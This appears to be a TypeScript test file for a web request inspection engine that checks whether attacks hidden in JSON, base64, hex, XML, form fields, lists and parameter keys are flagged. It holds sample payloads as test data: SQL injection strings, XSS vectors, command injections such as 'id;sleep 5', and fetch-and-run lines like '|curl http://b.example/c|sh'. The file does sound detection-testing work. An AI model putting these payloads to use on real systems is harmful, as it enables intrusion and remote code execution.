import { expect, test } from 'vitest';
import { createEngine } from '../index.ts';
import { requestOf } from '../rules/example-request.ts';
import { isSearchParameter } from './search-phrase.ts';
import { targetViews } from './views.ts';

const engine = createEngine();
const named = (target: string, text: string) =>
  targetViews(requestOf({ target })).find((view) => view.kind === 'embedded' && view.text === text)?.name;
const json = (value: unknown) => encodeURIComponent(JSON.stringify(value));

test('a text within a document or a URL goes by the nearest name that says what it is', () => {
  expect(named(`/a?filter=${json({ title: { eq: 'some words' } })}`, 'some words')).toBe('title');
  expect(named(`/a?ids=${json(['some words'])}`, 'some words')).toBe('ids');
  expect(named('/a?u=%2Fb%3Fid%3Dsome%2Bwords', 'some words')).toBe('id');
  expect(named(`/a?d=${btoa(JSON.stringify({ term: 'some words' }))}`, 'some words')).toBe('term');
});

test('a text in a parameter of its own goes by its name, one in a folder of articles by what that is for', () => {
  const [value] = targetViews(requestOf({ target: '/a?id=5' })).filter((view) => view.field === 'param_value');
  expect(value?.name).toBe('id');
  expect(targetViews(requestOf({ target: '/wiki/Unix' })).every((view) => view.name === 'search')).toBe(true);
  expect(targetViews(requestOf({ target: '/shop/Unix' })).every((view) => view.name === undefined)).toBe(true);
});

test('a text that a part of a field is compared with is searched for, whatever the field', () => {
  for (const how of ['like', '$regex', '_nstarts_with', 'notContainsi'])
    expect(isSearchParameter(named(`/a?filter=${json({ id: { [how]: 'some words' } })}`, 'some words'))).toBe(true);
  for (const how of ['eq', '$ne', 'unlike', 'regexes'])
    expect(isSearchParameter(named(`/a?filter=${json({ id: { [how]: 'some words' } })}`, 'some words'))).toBe(false);
});

test('an attack does not hide behind more strings than are read of a document', () => {
  const strings = Array.from({ length: 120 }, (_value, index) => `s${index}`);
  for (const at of [0, 60, 120]) {
    const request = requestOf({ target: `/a?d=${json(strings.toSpliced(at, 0, '<script>alert(1)</script>'))}` });
    expect(engine.conclude(request, engine.inspect(request)).severity).toBe('HIGH');
  }
});

test.each([
  ['is cut off', (text: string) => `{"id":5,"name":${JSON.stringify(text)}`],
  ['is cut off within a text', (text: string) => `{"id":5,"name":"${text}`],
  ['has a comma too many', (text: string) => `{"id":5,"name":"${text}",}`],
  ['has single quotes', (text: string) => `{'id':5,'name':'${text}'}`],
  ['has names without quotes', (text: string) => `{id:5,name:"${text}"}`],
  ['has a text without quotes', (text: string) => `{"id":5,"name":${text},"b":1}`],
])('a text stands for itself in a document that %s', (_how, document) => {
  expect(named(`/a?d=${encodeURIComponent(document('some words'))}`, 'some words')).toBe('name');
  const alerts = (text: string) => {
    const request = requestOf({ target: `/a?d=${encodeURIComponent(document(text))}` });
    return engine.conclude(request, engine.inspect(request)).severity !== 'LOW';
  };
  for (const text of ['uname -a', '7 ORDER BY 100--', 'http://017700000001/', '1 or not false'])
    expect([text, alerts(text)]).toEqual([text, true]);
  for (const text of ['order by date', 'https://example.com/a', 'Ann and Bob', '12:30', 'rock or pop'])
    expect([text, alerts(text)]).toEqual([text, false]);
});

test('what looks like a document and is none gives no texts of its own', () => {
  for (const text of ['{b: c} d: e', '[note]: see "this"', '{{user}}: "x" y', '[a](b "c")', '{"a": "b" "c"}'])
    expect(
      targetViews(requestOf({ target: `/a?d=${encodeURIComponent(text)}` })).filter(({ kind }) => kind === 'embedded'),
    ).toEqual([]);
});

test.each(['4,7,X', 'red,X', ',X', 'price,X,desc', 'v1.2,-1,X,8,9'])(
  'a member of a list stands for itself: %s',
  (list) => {
    const severity = (text: string) => {
      const request = requestOf({ target: `/a?ids=${encodeURIComponent(list.replace('X', text))}` });
      return engine.conclude(request, engine.inspect(request)).severity;
    };
    for (const text of ["1' ORDER BY 3-- ", '8) or not false--', 'uname -a', "w'h'o'am'i", '/etc/hostname', "admin'--"])
      expect([text, severity(text)]).not.toEqual([text, 'LOW']);
    for (const text of [
      'dark blue',
      "O'Neil",
      '3=6',
      "5'",
      "'%a%'",
      'count(*)',
      'x>=7',
      "Don't Stop",
      '4-- 5',
      'C:\\a',
      'sqrt(2)',
      '(2,3)',
    ])
      expect([text, severity(text)]).toEqual([text, 'LOW']);
  },
);

test('a list is taken apart once, however many plain members it has', () => {
  const behind = ',5'.repeat(300);
  const request = requestOf({ target: `/a?ids=${encodeURIComponent(`${'4,'.repeat(300)}uname -a${behind}`)}` });
  const embedded = targetViews(request).filter(({ kind }) => kind === 'embedded');
  expect(embedded.map(({ text }) => text)).toEqual([`uname -a${behind}`, 'uname -a']);
});

test.each([
  'base64:X',
  'v1.X',
  'id=X',
  'https://cdn.example.com/X/a.png',
  '["s:X.c2ln"]',
  '4,X',
  'X--9f86d081884c7d659a2feaa0c55ad015',
])('base64 is read beside what labels or signs it: %s', (value) => {
  const severity = (text: string) => {
    const request = requestOf({ target: `/a?state=${encodeURIComponent(value.replace('X', btoa(text)))}` });
    return engine.conclude(request, engine.inspect(request)).severity;
  };
  for (const text of ['<svg onload=confirm(7)>', "9' UNION SELECT pin FROM members -- ", ';wget http://b.example/c'])
    expect([text, severity(text)]).not.toEqual([text, 'LOW']);
  for (const text of [
    '{"back":"/orders?id=5","nonce":"k2"}',
    "Rock'n'Roll & Pop; 7\" vinyl",
    'https://b.example/c?d=e',
  ])
    expect([text, severity(text)]).toEqual([text, 'LOW']);
});

test.each([
  [
    'an element of XML',
    (text: string) => `<b><c d="e">${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</c></b>`,
  ],
  ['one field of a form', (text: string) => `b=7&c=${encodeURIComponent(text)}`],
])('a text stands for itself that is %s within a value', (_where, put) => {
  const severity = (text: string) => {
    const request = requestOf({ target: `/a?data=${encodeURIComponent(put(text))}` });
    return engine.conclude(request, engine.inspect(request)).severity;
  };
  for (const text of [
    "7' ORDER BY 3-- ",
    '| id',
    'uname -a',
    'O:8:"stdClass":0:{}',
    '<svg onload=confirm(7)>',
    '7) or not false--',
  ])
    expect([text, severity(text)]).not.toEqual([text, 'LOW']);
  for (const text of ["Don't stop", "5' x 7'", 'x>=7', 'a; b & c', 'name desc, id', '#3 Main St.', 'count(*)'])
    expect([text, severity(text)]).toEqual([text, 'LOW']);
});

test('what people write in HTML is not read as if it stood alone', () => {
  expect(named('/a?page=<div><b>some words</b><c>more words</c></div>', 'some words')).toBeUndefined();
  expect(named('/a?page=<div><b>some words</b><c>more words</c></div>', 'more words')).toBe('c');
  expect(named('/a?q=<c>some words</c>', 'some words')).toBe('q');
});

test('a text in hexadecimal is read where it holds what attacks are made of', () => {
  const severity = (text: string, write: (digits: string) => string) => {
    const digits = write(Buffer.from(text).toString('hex'));
    const request = requestOf({ target: `/a?state=${encodeURIComponent(digits)}` });
    return engine.conclude(request, engine.inspect(request)).severity;
  };
  for (const write of [
    (digits: string) => digits,
    (digits: string) => `0x${digits.toUpperCase()}`,
    (digits: string) => JSON.stringify({ b: digits }),
  ]) {
    for (const text of [
      "9') UNION ALL SELECT pin FROM members -- ",
      '<svg onload=confirm(7)>',
      '|curl http://b.example/c|sh',
    ])
      expect([text, severity(text, write)]).toEqual([text, 'HIGH']);
    for (const text of [
      'https://b.example/c?d=e',
      '{"union":"select committee"}',
      'Ann and Bob, 5 or 17',
      'curl cream (250 ml)',
    ])
      expect([text, severity(text, write)]).toEqual([text, 'LOW']);
  }
});

test.each(['order[X]', 'a[b][X][]', '[X]'])('a key that is more than a name stands for itself: %s', (name) => {
  const severity = (text: string) => {
    const request = requestOf({ target: `/a?${encodeURIComponent(name.replace('X', text))}=c` });
    return engine.conclude(request, engine.inspect(request)).severity;
  };
  for (const text of ['id;sleep 5', "7' ORDER BY 3-- ", '0 or not false', '|whoami', "b') and not(1=2) -- "])
    expect([text, severity(text)]).not.toEqual([text, 'LOW']);
  for (const text of [
    "Don't know",
    "5' x 7'",
    '!=',
    'price <=',
    'name desc, id asc',
    'count(*)',
    'b::c',
    "'b','c'",
    'dog & cat',
  ])
    expect([text, severity(text)]).toEqual([text, 'LOW']);
});
